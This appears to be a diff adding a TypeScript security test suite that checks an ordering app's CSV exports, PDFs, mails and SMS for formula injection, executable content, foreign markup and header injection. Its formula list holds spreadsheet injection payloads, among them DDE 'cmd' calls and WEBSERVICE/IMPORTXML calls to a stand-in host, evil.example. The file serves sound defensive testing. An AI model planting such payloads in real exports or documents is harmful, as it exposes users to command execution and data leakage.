@@ -1,0 +1,125 @@
+import type { Endpoint } from '@plein/contract/endpoint'
+import { beforeAll, afterAll, describe, expect, test } from 'vitest'
+import { routes } from '../../app.ts'
+import { run } from '../../platform/db/database.ts'
+import { readCsv } from '../../platform/files/csv-reader.ts'
+import { eventually } from '../../platform/testing/load.ts'
+import { contentOf } from '../../modules/notifications/content.ts'
+import { pdfFault } from '../../modules/food-ordering/documents/pdf.rules.ts'
+import { hostileTexts } from '../every-endpoint/hostile-text.ts'
+import { ask, createTenantHouse, paramsFor, queryFor, type TenantHouse } from '../every-endpoint/tenants.ts'
+import { sayHostileWords, type Said } from './say-hostile-words.ts'
+import { createWords } from './words.ts'
+
+/** Thirty texts that a spreadsheet would run: formulas, calls of programs, and what only looks like an empty beginning. */
+const formulas = [
+  ...['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '=cmd|"/C calc"!A0', '+cmd|"/C calc"!A0', '-cmd|"/C calc"!A0', '@cmd|"/C calc"!A0'],
+  ...['=HYPERLINK("http://evil.example","x")', '=IMPORTXML("http://evil.example","//a")', '=WEBSERVICE("http://evil.example")'],
+  ...['=DDE("cmd";"/C calc";"x")', '=2+5+cmd|"/C calc"!A0', '=\'1\'+1', '=";=1+1', '=1+1;=1+1', '=1+1,=1+1', '"=1+1', "'=1+1", ';=1+1'],
+  ...['-2+3+cmd|"/C calc"!D2', '+(1)', '--1', '=-1', '=+1', '=@A1', '=A1&B1', '@A1', '+A1', '-A1'],
+] // prettier-ignore
+
+interface Sent {
+  readonly subject: string | null
+  readonly body: string
+  readonly html: string | null
+}
+
+/** All mails and SMS, once nothing is to be sent any more; secret ones opened. */
+const sentMessages = async (house: TenantHouse): Promise<Sent[]> => {
+  const jobs = await house.server.startJobs()
+  try {
+    await eventually(
+      'nothing waits to be sent',
+      async () => {
+        const [due] = await run<{ count: number }>(house.owner.db, 'select count(*)::int as count from graphile_worker._private_jobs where run_at <= now() and attempts < max_attempts') // prettier-ignore
+        const [queued] = await run<{ count: number }>(house.owner.db, "select count(*)::int as count from notifications.messages where status = 'queued'") // prettier-ignore
+        return due?.count === 0 && queued?.count === 0
+      },
+      45_000,
+    )
+  } finally {
+    await jobs.stop()
+  }
+  const rows = await run<Sent & { sealed: Buffer | null }>(house.owner.db, 'select subject, body, html, sealed from notifications.messages') // prettier-ignore
+  return rows.map((row) => ({ ...row, ...contentOf(house.server.house.settings, row as never) }))
+}
+
+const ourTags =
+  /^\/?(!doctype|html|head|meta|title|style|body|table|tbody|tr|td|div|p|span|strong|b|h1|h2|a|br|hr|img|ul|li)$/i
+
+/** Tags and attributes that our mails are not made of, and links to elsewhere. */
+const strangeMarkup = (html: string): string[] =>
+  [...html.matchAll(/<([^\s>]+)([^>]*)>/g)].flatMap(([tag, name = '', rest = '']) => {
+    const addresses = [...rest.matchAll(/(?:href|src)="([^"]*)"/gi)].map(([, address = '']) => address)
+    const elsewhere = addresses.filter((address) => !/^(https?:\/\/[\w.-]+\.(localhost|example)[:/]|mailto:|tel:|cid:)/.test(address)) // prettier-ignore
+    const acts = /\son\w+\s*=/i.test(rest.replaceAll(/"[^"]*"/g, '""'))
+    return ourTags.test(name) && !acts && elsewhere.length === 0 ? [] : [tag]
+  })
+
+const signs: Readonly<Record<string, string>> = { amp: '&', lt: '<', gt: '>', quot: '"', '#39': "'", '#x27': "'" }
+const unescaped = (html: string): string =>
+  html.replaceAll(/&(amp|lt|gt|quot|#39|#x27);/g, (_all, name: string) => signs[name] ?? '')
+
+const kindOf = ({ callers }: Endpoint) => callers[0]
+
+describe.each([
+  ['texts that would be code', hostileTexts],
+  ['formulas', formulas],
+] as const)('[S2] what leaves the house with %s', (_what, texts) => {
+  let house: TenantHouse
+  let said: Said
+  beforeAll(async () => {
+    house = await createTenantHouse()
+    said = await sayHostileWords(house, createWords(0, texts))
+  })
+  afterAll(() => house.close())
+
+  const userOf = (endpoint: Endpoint): string | undefined => {
+    const kind = kindOf(endpoint)
+    return kind === 'guest' ? undefined : kind === 'admin' ? house.admin : house.mine.people[kind]
+  }
+  const files = (type: string) => routes.map(({ endpoint }) => endpoint).filter(({ produces }) => produces === type)
+  const fetched = (endpoint: Endpoint) => {
+    const params = { ...paramsFor(endpoint, house.mine), ledger: 'all' }
+    return ask(house, endpoint, { kind: kindOf(endpoint), user_uuid: userOf(endpoint), params, query: queryFor(endpoint, house.mine) }) // prettier-ignore
+  }
+
+  test('[S3] no cell of any CSV begins as a formula, and what was typed is there', async () => {
+    const cells: string[] = []
+    for (const endpoint of files('text/csv')) {
+      const answer = await fetched(endpoint)
+      if (answer.statusCode === 404) continue
+      expect([endpoint.path, answer.statusCode]).toEqual([endpoint.path, 200])
+      cells.push(...readCsv(answer.rawPayload).rows.flat())
+    }
+    // An amount below zero is a number, and nothing else may begin as one.
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+([.,]\d+)?$/.test(cell))).toEqual([])
+    const whole = new Set(cells.map((cell) => cell.replace(/^'/, '')))
+    for (const name of ['order.first_name', 'owner.company_name'])
+      expect([...whole].some((cell) => cell.includes(said.texts[name]!.replace(/^'/, '')))).toBe(true)
+  })
+
+  test('a PDF holds nothing that runs or opens', async () => {
+    let seen = 0
+    for (const endpoint of files('application/pdf')) {
+      const answer = await fetched(endpoint)
+      if (answer.statusCode === 404) continue
+      seen++
+      expect([endpoint.path, await pdfFault(answer.rawPayload)]).toEqual([endpoint.path, undefined])
+    }
+    expect(seen).toBeGreaterThanOrEqual(2)
+  })
+
+  test('a mail or SMS holds no markup but our own, no address but ours, and one line of subject', async () => {
+    const mails = await sentMessages(house)
+    expect(mails.length).toBeGreaterThanOrEqual(10)
+    expect(mails.filter(({ subject }) => /[\r\n]/.test(subject ?? ''))).toEqual([])
+    for (const { html } of mails) expect(strangeMarkup(html ?? '')).toEqual([])
+    // Long lines of a mail are broken between words.
+    const flat = (text: string): string => text.replaceAll(/\s+/g, ' ')
+    const written = flat(mails.map(({ body, html }) => `${body}\n${unescaped(html ?? '')}`).join('\n'))
+    for (const name of ['program.title', 'program.delivering_sms_text', 'support0.text', 'support1.name'])
+      expect([name, written.includes(flat(said.texts[name]!))]).toEqual([name, true])
+  })
+})
